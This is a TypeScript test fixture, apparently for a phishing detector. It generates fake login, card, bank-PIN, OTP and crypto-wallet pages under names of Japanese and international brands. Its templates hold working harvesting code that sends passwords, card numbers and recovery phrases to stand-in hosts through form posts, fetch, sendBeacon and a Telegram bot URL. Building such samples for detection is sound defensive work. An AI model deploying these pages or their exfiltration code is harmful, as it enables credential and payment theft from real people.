/**
 * The pages are written for the tests with common features of such pages and names of brands. None is a copy of a real
 * page.
 */

export interface Sample {
  name: string;
  html: string;
}

export const JAPANESE_BRANDS = [
  ...[
    '三井住友カード',
    '楽天カード',
    'みずほ銀行',
    '三菱UFJ銀行',
    'ゆうちょ銀行',
    'イオンカード',
    'エポスカード',
    'PayPay銀行',
  ],
  ...['佐川急便', 'ヤマト運輸', '日本郵便', 'えきねっと', 'ETC利用照会サービス', 'NTTドコモ', 'メルカリ', 'SBI証券'],
];
export const OTHER_BRANDS = ['Amazon', 'PayPal', 'Microsoft', 'Netflix', 'Apple', 'Instagram', 'DHL', 'MetaMask'];

const page = (title: string, body: string, head = '') =>
  `<!DOCTYPE html>\n<html lang="ja">\n<head>\n<meta charset="utf-8">\n<title>${title}</title>\n${head}</head>\n<body>\n${body}\n</body>\n</html>`;

const password = `<form method="post" action="https://collect.example/a.php">
<p>会員ID</p><input type="text" name="userid">
<p>パスワード</p><input type="password" name="pw"><button>ログイン</button></form>`;

const card = `<form onsubmit="return send(this)"><label>カード番号<input type="tel" name="c1" maxlength="19"></label>
<label>有効期限<input type="text" name="c2"></label><label>セキュリティコード<input type="text" name="c3"></label>
<button>次へ</button></form>
<script>function send(f){fetch('https://collect.example/s',{method:'POST',body:new FormData(f)});return false}</script>`;

const pin = `<form action="/x"><table><tr><td>店番号</td><td><input name="a" type="text"></td></tr>
<tr><td>口座番号</td><td><input name="b" type="text"></td></tr>
<tr><td>キャッシュカードの暗証番号</td><td><input name="c" type="text" inputmode="numeric"></td></tr></table></form>`;

const hook = `<input id="u" placeholder="メールアドレス"><input id="p" type="password" placeholder="パスワード">
<button onclick="go()">次へ</button><script>
function go(){var t='https://api.telegram.org/bot1:AA/sendMessage?chat_id=1&text='+u.value+p.value;fetch(t)}</script>`;

const seed = `<h2>Import wallet</h2><textarea placeholder="Enter your 12-word Secret Recovery Phrase"></textarea><button>Restore</button>
<script>document.querySelector('button').onclick=()=>navigator.sendBeacon('https://collect.example/w',document.querySelector('textarea').value)</script>`;

const TEMPLATES: readonly ((brand: string) => string)[] = [
  (brand) => page(`${brand} ログイン`, `<div class="logo">${brand}</div>${password}`),
  (brand) =>
    page(
      `【重要】${brand}からのお知らせ`,
      `<header><h1>${brand}</h1></header><p>お客様の情報を更新してください。</p>${card}`,
    ),
  (brand) => page('本人確認のお願い', `<div id="site-logo">${brand}</div><p>確認が必要です。</p>${pin}`),
  (brand) =>
    page(
      'ログイン',
      `<img class="header-logo" alt="${brand} ロゴ" src="data:image/png;base64,iVBORw0KGgo=">${hook}
<footer>© 2026 ${brand}</footer>`,
    ),
  (brand) => page(`${brand}｜アカウントの確認`, `<p>アカウントが制限されています。</p>${password}${card}`),
  (brand) =>
    page(
      'サインイン',
      `<h1>${brand}アカウントにサインイン</h1><input name="otp" type="tel" placeholder="認証コード"><button>確認</button>`,
    ),
  (brand) => page(`${brand} - Sign in`, `<h1>Sign in</h1>${password.replaceAll('パスワード', 'Password')}`),
  (brand) =>
    page('ログイン', `<div class="top"><img src="/1.png" alt="${brand}"></div><h2>会員ログイン</h2>${password}`),
  (brand) =>
    page(
      `${brand} 認証`,
      `<p>6桁のコードを入力してください</p>${'<input maxlength="1" inputmode="numeric">'.repeat(6)}<script>fetch('/c.php')</script>`,
    ),
  (brand) =>
    page(
      `${brand} 会員専用ページ`,
      `<script>const e=React.createElement;x.render(e('form',null,e('h1',null,'ログイン'),e('input',{placeholder:'パスワード'})))</script>`,
    ),
  (brand) => page(`Welcome to ${brand}`, `<h1>${brand} Wallet</h1>${seed}`),
];

const samples = (brands: readonly string[]): Sample[] =>
  brands.flatMap((brand) => TEMPLATES.map((template, index) => ({ name: `${brand} ${index}`, html: template(brand) })));

export const japanesePhishing = samples(JAPANESE_BRANDS);
export const otherPhishing = samples(OTHER_BRANDS);

export const pageWith = page;
